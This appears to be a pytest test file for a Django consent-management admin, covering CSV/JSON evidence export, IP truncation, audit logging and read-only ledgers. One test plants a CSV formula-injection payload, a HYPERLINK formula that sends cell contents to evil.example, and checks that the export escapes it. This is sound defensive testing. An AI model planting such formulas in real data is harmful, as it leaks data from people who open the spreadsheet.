from __future__ import annotations

import csv
import io
import json

from consent_app.services import consent_grant, consent_withdraw
from consent_app.tests.factories import PolicyVersionFactory
from privacyportal.audit.models import AuditEvent
from privacyportal.audit.services import Actor

SYSTEM = Actor.system("test")


def _history(subject):
    PolicyVersionFactory(published=True, label="2026.1")
    consent_grant(
        actor=SYSTEM,
        subject=subject,
        purpose="newsletter",
        source="form",
        ip="192.0.2.5",
    )
    consent_withdraw(actor=SYSTEM, subject=subject, purpose="newsletter", source="api")


def test_evidence_downloads_as_csv_and_json(admin_client, purposes, subject):
    _history(subject)
    base = f"/admin/consent_app/consentevent/evidence/{subject.pk}"
    response = admin_client.get(base + ".csv")
    assert response.status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )
    assert [r["action"] for r in rows] == ["granted", "withdrawn"]
    assert rows[0]["policy_version"] == "2026.1" and rows[1]["source"] == "api"
    assert rows[0]["ip"] == "192.0.2.0"

    body = json.loads(admin_client.get(base + ".json").content)
    assert body["policy_versions"]["2026.1"]["material"] is False
    assert body["current"][0]["granted"] is False
    assert AuditEvent.objects.filter(action="consent.evidence.downloaded").count() == 2


def test_evidence_csv_shows_a_planted_formula_as_text(admin_client, purposes, subject):
    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    consent_grant(
        actor=SYSTEM,
        subject=subject,
        purpose="newsletter",
        source="form",
        user_agent=planted,
    )
    url = f"/admin/consent_app/consentevent/evidence/{subject.pk}.csv"
    body = b"".join(admin_client.get(url).streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["user_agent"] == "'" + planted


def test_ledger_changelist_links_the_evidence(admin_client, purposes, subject):
    _history(subject)
    page = admin_client.get(
        f"/admin/consent_app/consentevent/?subject__id__exact={subject.pk}"
    )
    assert page.status_code == 200
    assert f"evidence/{subject.pk}.csv".encode() in page.content


def test_ledger_and_states_cannot_be_changed_in_the_admin(
    admin_client, purposes, subject
):
    _history(subject)
    for model in ("consentevent", "consentstate"):
        assert admin_client.get(f"/admin/consent_app/{model}/add/").status_code == 403
        listing = admin_client.get(f"/admin/consent_app/{model}/")
        assert listing.status_code == 200
    event_id = subject.consent_events.first().pk
    response = admin_client.post(
        f"/admin/consent_app/consentevent/{event_id}/delete/", {"post": "yes"}
    )
    assert response.status_code == 403
    assert subject.consent_events.count() == 2


def test_purposes_are_edited_through_the_service(admin_client, purposes):
    purpose = purposes["newsletter"]
    url = f"/admin/consent_app/purpose/{purpose.pk}/change/"
    form = {
        "code": "newsletter",
        "name": "Monthly newsletter",
        "description": purpose.description,
        "legal_basis": "consent",
        "is_marketing": "on",
        "position": 5,
        "active": "on",
    }
    assert admin_client.post(url, form).status_code == 302
    purpose.refresh_from_db()
    assert purpose.name == "Monthly newsletter"
    assert AuditEvent.objects.filter(action="consent.purpose.updated").exists()


def test_published_version_is_view_only_and_a_post_changes_nothing(
    admin_client, purposes
):
    version = PolicyVersionFactory(
        published=True, label="2026.2", summary_of_changes="Before"
    )
    url = f"/admin/consent_app/policyversion/{version.pk}/change/"
    page = admin_client.get(url)
    assert page.status_code == 200 and b'name="_save"' not in page.content
    response = admin_client.post(
        url, {"label": "2026.2", "summary_of_changes": "After"}
    )
    assert response.status_code == 403
    version.refresh_from_db()
    assert version.summary_of_changes == "Before"
